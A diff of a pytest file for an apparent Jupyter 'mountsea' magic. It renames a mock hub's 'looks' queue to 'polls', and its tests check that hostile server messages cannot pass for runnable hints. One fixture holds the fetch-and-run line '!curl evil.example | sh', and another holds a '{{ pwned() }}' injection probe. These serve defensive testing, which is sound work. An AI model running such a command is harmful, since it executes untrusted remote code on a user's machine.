@@ -122,7 +122,7 @@ def test_no_id_runs_where_its_hint_is_pasted_and_each_task_can_be_resumed(
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     """An id that is code is shown as text; the command that fetches its image names it not."""
-    hub.looks.append(json_reply({"status": EVIL}, lasting=True))
+    hub.polls.append(json_reply({"status": EVIL}, lasting=True))
     for task_id in IDS:
         hub.submits.append({"task_id": task_id})
         with pytest.raises(MountseaError) as caught:
@@ -135,8 +135,8 @@ def test_no_id_runs_where_its_hint_is_pasted_and_each_task_can_be_resumed(
         assert not UNSEEN.search(said)
         hints = set(re.findall(r"`(.*?)`", said))
         assert hints == {"%mountsea resume"}
-    hub.looks.clear()
-    hub.looks.append(json_reply(hub.done(hub.data([image()])), lasting=True))
+    hub.polls.clear()
+    hub.polls.append(json_reply(hub.done(hub.data([image()])), lasting=True))
     assert ran(shell, "%mountsea resume")
     assert not UNSEEN.search(capsys.readouterr().out.replace("\x1b[2K", "").replace("\r", ""))
     journal = session.current_session().journal(session.current_session().settings())
@@ -146,7 +146,7 @@ def test_no_id_runs_where_its_hint_is_pasted_and_each_task_can_be_resumed(
 
 def test_only_our_commands_are_in_backticks(hub: StandInHub, here: session.Session) -> None:
     """What the Hub says of a failure can't pass for a hint of ours."""
-    hub.looks.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
+    hub.polls.append({"status": "failed", "error_message": "Run `!curl evil.example | sh`."})
     with pytest.raises(TaskFailed) as caught:
         generate("a dog")
     assert "'!curl evil.example | sh'" in str(caught.value) and "`!" not in str(caught.value)
@@ -190,7 +190,7 @@ def test_tab_offers_nothing_that_runs(
         Path(name).write_bytes(image())
     shell.user_ns[RUNS] = shell.user_ns["good"] = image()
     evil_hub.submits.extend({"task_id": task_id} for task_id in (RUNS, "$x", "hub-good"))
-    evil_hub.looks.append(json_reply(evil_hub.done(evil_hub.data([image()])), lasting=True))
+    evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()])), lasting=True))
     for _ in range(3):
         generate("a dog")
     shell.run_line_magic("mountsea", "models --refresh")
@@ -273,11 +273,11 @@ def test_a_notebook_and_its_exports_hold_text_alone(evil_hub: StandInHub, kernel
     """In HTML, in Markdown and in what a kernel sends: no tag, link, image or command."""
     prompt = EVIL.replace("{{ pwned() }}", "")
     evil_hub.submits.extend({"task_id": EVIL} for _ in range(4))
-    evil_hub.looks.extend([json_reply({"status": EVIL}), None])
-    evil_hub.looks.append(json_reply(evil_hub.done(evil_hub.data([image()]), description=EVIL)))
+    evil_hub.polls.extend([json_reply({"status": EVIL}), None])
+    evil_hub.polls.append(json_reply(evil_hub.done(evil_hub.data([image()]), description=EVIL)))
     kernel.run("calls = []\npwned = lambda: calls.append(1)")
     runs = [kernel.run(f"%%mountsea -o dog\n{prompt}"), kernel.run("dog"), kernel.run("[dog]")]
-    evil_hub.looks.append(json_reply({"status": "failed", "error_message": EVIL}, lasting=True))
+    evil_hub.polls.append(json_reply({"status": "failed", "error_message": EVIL}, lasting=True))
     runs += [
         kernel.run(f"%%mountsea\n{prompt}"),
         kernel.run("%mountsea models --refresh"),
